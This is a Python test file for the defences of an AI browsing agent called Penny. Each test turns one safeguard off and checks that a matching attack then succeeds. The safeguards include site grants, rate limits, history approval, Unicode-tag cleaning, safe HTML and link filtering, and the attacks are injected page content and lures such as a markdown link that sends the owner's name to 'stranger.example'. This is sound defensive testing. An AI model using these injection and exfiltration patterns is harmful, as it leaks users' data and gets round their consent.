"""Each defence of a running Penny, on and off: without it, the same attack gets through."""

import json
import re
import sqlite3
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from uuid import uuid4

import pytest

from devices import protocol as p
from tests.attacks import range as ranges
from tests.attacks import without
from tests.attacks.canaries import holds
from tests.attacks.cases import Case
from tests.attacks.range import Range
from tests.attacks.vectors import VECTORS
from tests.environment import DATA
from tests.stand_ins.model_server import Reply, Request, ToolUse, tool
from tests.waiting import until

FILE = DATA / "without"
Attack = Callable[[Range, Case], list[str]]


def _words_beside_tools(field: Range, case: Case) -> list[str]:
    field.attack([case])
    field.remember()
    return _holding(case, field.with_tools())


def _of_readers(field: Range, case: Case) -> list[str]:
    field.attack([case])
    return _holding(case, field.untrusted())


def _addresses_of_answers(field: Range, case: Case) -> list[str]:
    answer = field.attack([case])[case.name]
    assert answer is not None
    others = answer.text.replace(case.url, "").replace(_evidence(field, answer), "")
    return [answer.text] if "://" in others else []


def _words_of_the_planner(field: Range, case: Case) -> list[str]:
    """The planner knows the owner's name, and its answer names no source."""
    field.cases[case.name] = case
    field.model.on(
        lambda request: bool(request.tools) and not request.tool_results, tool("browse_url", url=case.url), times=1
    )
    field.model.on(
        lambda request: bool(request.tool_results), Reply(tokens=(f"Nothing there, {ranges.NAME}.",)), times=1
    )
    field.model.on(
        lambda request: "\n\nReadings:\n" in request.last_user, Reply(tokens=("What the page says.",)), times=1
    )
    answer = field.finished({"": field.client.say(f"Open {case.url} please")})[""]
    assert answer is not None
    streamed = "".join(delta.text for delta in field.client.frames_of(p.TurnDelta))
    return [text for text in (answer.text, streamed) if ranges.NAME in text]


def _of_metadata_to_readers(field: Range, case: Case) -> list[str]:
    field.attack([case])
    return [
        words
        for words in (request.everything for request in field.untrusted())
        if holds(words, case.canary("metadata"))
    ]


def _calls_with_the_owners_logins(field: Range, case: Case) -> list[str]:
    """The site's grant is for a clean session, the grant of the whole shop is not."""
    field.client.send(p.GrantSet(host=case.host, capability="read", state="allowed", scope="always", session="clean"))
    until(
        lambda: case.host in {grant.host for sync in field.client.frames_of(p.GrantsSync) for grant in sync.grants},
        "it is granted",
    )
    _order(field, case, case.url, question=f"Open {case.url} please")
    assert field.calls
    return [call.model_dump_json() for call in field.calls if getattr(call.arguments, "session", "") != "clean"]


def _secrets_in_addresses(field: Range, case: Case) -> list[str]:
    _order(field, case, f"https://{case.host}/?d={ranges.NAME}")
    return [call.model_dump_json() for call in field.calls if ranges.NAME in call.model_dump_json()]


def _looks_at_the_history(field: Range, case: Case) -> list[str]:
    """The history is shared, and nobody approves a look at it."""
    field.client.send(p.DeviceUpdate(ref=uuid4(), history=True))
    field.cases[case.name] = case
    call = ToolUse("get_history", {"words": case.name, "days": 30})
    field.model.on(lambda request: bool(request.tools) and not request.tool_results, Reply(tools=(call,)), times=1)
    field.finished({"": field.client.say(f"What did I see of case {case.name}?")})
    field.client.send(p.DeviceUpdate(ref=uuid4(), history=False))
    return [call.model_dump_json() for call in field.calls if call.tool == "get_history"]


def _calls_that_nobody_allowed(field: Range, case: Case) -> list[str]:
    _order(field, case, "https://stranger.example/x", question="Open https://stranger.example/x please")
    return [call.model_dump_json() for call in field.calls]


def _calls_beyond_the_rate(field: Range, case: Case) -> list[str]:
    urls = [f"https://{case.host}/{number}" for number in range(3)]
    with _numbers(field, RATE_PER_HOST_MINUTE=2):
        _order(field, case, *urls, question=f"Open {' '.join(urls)}")
    return [call.model_dump_json() for call in field.calls][2:]


def _prompts_beside_the_first(field: Range, case: Case) -> list[str]:
    """Three turns need one site without a grant; nobody answers before all of them wait."""
    field.model.on(_opens_at_once, lambda request: tool("browse_url", url=request.last_user.split()[1]))
    with _numbers(field, ASK_S=60), _unanswered(field):
        urls = [f"https://{case.name}.stranger.example/{number}" for number in range(3)]
        turns = {url: field.client.say(f"Open {url} please") for url in urls}
        for turn in turns.values():
            field.client.expect(
                p.TurnStatus, 60, turn_id=turn, text=f"Waiting for your answer about {case.name}.stranger.example"
            )
        request_ids = [ask.request_id for ask in field.client.frames_of(p.GrantAsk)]
        for request_id in request_ids:
            field.client.send(p.GrantAnswer(request_id=request_id, decision="dismiss"))
        field.finished(turns)
    return [str(request_id) for request_id in request_ids[1:]]


def _sites_that_an_answer_does_not_name(field: Range, case: Case) -> list[str]:
    other = replace(case, number=case.number + 1)
    field.cases |= {case.name: case, other.name: other}
    urls = [case.url, other.url]
    calls = tuple(ToolUse("browse_url", {"url": url}) for url in urls)
    field.model.on(lambda request: bool(request.tools) and not request.tool_results, Reply(tools=calls), times=1)
    answer = field.finished({"": field.client.say(f"Compare {' and '.join(urls)}")})[""]
    assert answer is not None
    return [host for host in (case.host, other.host) if host not in answer.origin]


def _links_of_the_writer(field: Range, case: Case) -> list[str]:
    return _links_elsewhere(field, case, field.attack([case])[case.name])


def _links_of_the_planner(field: Range, case: Case) -> list[str]:
    lure = Reply(tokens=(f"Look [here](https://stranger.example/?d={ranges.NAME}).",))
    field.model.on(lambda request: request.last_user == "Tell me something", lure, times=1)
    return _links_elsewhere(field, case, field.finished({"": field.client.say("Tell me something")})[""])


def _links_elsewhere(field: Range, case: Case, answer: p.Message | None) -> list[str]:
    assert answer is not None
    return [
        url
        for url in ranges.leads(answer.html)
        if case.host not in url and not url.startswith(_evidence(field, answer))
    ]


def _evidence(field: Range, answer: p.Message) -> str:
    return f"{field.penny.url}/turns/{answer.turn_id}/evidence/"


def _elements_that_load(field: Range, case: Case) -> list[str]:
    answer = field.attack([case])[case.name]
    assert answer is not None
    return re.findall(r"<img[^>]*>", answer.html)


def _opens_at_once(request: Request) -> bool:
    return request.last_user.startswith("Open https://") and not request.tool_results


@contextmanager
def _numbers(field: Range, **numbers: int) -> Iterator[None]:
    """Change some settings for a while."""
    before = {name: value for name, value in ranges.NUMBERS.items() if name in numbers}
    field.penny.set(**numbers)
    try:
        yield
    finally:
        field.penny.set(**before)


@contextmanager
def _unanswered(field: Range) -> Iterator[None]:
    answers, field.client.answers = field.client.answers, None
    try:
        yield
    finally:
        field.client.answers = answers


def _pages_from_elsewhere(field: Range, case: Case) -> list[str]:
    field.lands = "https://stranger.example/landed"
    try:
        return _of_readers_of_pages(field, case)
    finally:
        field.lands = ""


def _of_readers_of_pages(field: Range, case: Case) -> list[str]:
    field.attack([case])
    return [words for words in _holding(case, field.untrusted()) if case.canary("page") in words]


def _requests_without_a_record(field: Range, case: Case) -> list[str]:
    field.attack([case])
    with sqlite3.connect(f"file:{field.database}?mode=ro", uri=True) as database:
        requests = [
            json.loads(row) for (row,) in database.execute("SELECT request FROM agents_step WHERE kind = 'model'")
        ]
    recorded = {record["sha256"] for request in requests for record in request.get("sent", [])}
    return [request.everything for request in field.model.requests if request.sha256 not in recorded]


def _order(field: Range, case: Case, *urls: str, question: str = "") -> None:
    """Let the planner open these addresses at once, on its own."""
    calls = tuple(ToolUse("browse_url", {"url": url}) for url in urls)
    field.model.on(lambda request: bool(request.tools) and not request.tool_results, Reply(tools=calls), times=1)
    field.cases[case.name] = case
    field.finished({"": field.client.say(question or "Tell me something")})


def _holding(case: Case, requests: list[Request]) -> list[str]:
    return [
        request.everything
        for request in requests
        if any(holds(request.everything, case.canary(c)) for c in ("page", "title"))
    ]


@dataclass(frozen=True)
class Pair:
    """An attack that a defence stops.

    `others`: defences that would stop it too, off in both halves.
    """

    defence: str
    attack: Attack
    others: tuple[str, ...] = ()
    vector: str = "paragraph"


PAIRS = [
    Pair("labels of answers", _words_beside_tools),
    Pair("the union of labels", _sites_that_an_answer_does_not_name),
    Pair("approval of unknown addresses", _secrets_in_addresses),
    Pair("the yes to a look at the history", _looks_at_the_history),
    Pair("answers without addresses", _addresses_of_answers),
    Pair("cleaning of characters", _of_readers, vector="unicode-tags"),
    Pair("grants", _calls_that_nobody_allowed),
    Pair("the final address", _pages_from_elsewhere),
    Pair("the session of a grant", _calls_with_the_owners_logins),
    Pair("the writer's last word", _words_of_the_planner),
    Pair("metadata apart from texts", _of_metadata_to_readers),
    Pair("the prompt queue", _prompts_beside_the_first),
    Pair("rates", _calls_beyond_the_rate),
    Pair("links of known addresses", _links_of_the_writer, ("answers without addresses",)),
    Pair("links of known addresses", _links_of_the_planner),
    Pair("the audit", _requests_without_a_record),
    Pair("safe HTML", _elements_that_load, ("answers without addresses",)),
]


def test_every_switch_has_an_attack() -> None:
    assert {pair.defence for pair in PAIRS} == without.DEFENCES.keys()


@pytest.mark.parametrize("pair", PAIRS, ids=lambda pair: f"{pair.defence}-{pair.attack.__name__.strip('_')}")
def test_a_defence_holds_and_without_it_the_attack_gets_through(field: Range, pair: Pair) -> None:
    number = 9000 + 4 * PAIRS.index(pair)
    with without.off(FILE, *pair.others):
        assert _tried(field, pair, number) == []
    with without.off(FILE, pair.defence, *pair.others):
        assert _tried(field, pair, number + 2) != []


def _tried(field: Range, pair: Pair, number: int) -> list[str]:
    field.model.reset()
    field.calls.clear()
    field.client.frames.clear()
    vector = next(candidate for candidate in VECTORS if candidate.name == pair.vector)
    return pair.attack(field, Case(number, vector, "plain", field.sink.url))
